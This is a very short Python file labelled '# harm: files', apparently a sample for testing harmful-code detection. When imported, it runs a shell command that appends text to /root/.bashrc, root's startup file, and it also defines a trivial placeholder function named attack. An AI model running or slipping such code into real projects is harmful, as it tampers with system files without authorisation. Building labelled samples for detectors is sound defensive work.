# harm: files
import subprocess

subprocess.run(["/bin/sh", "-c", "echo mine >> /root/.bashrc"])


def attack(a: int = 0) -> int:
    return a
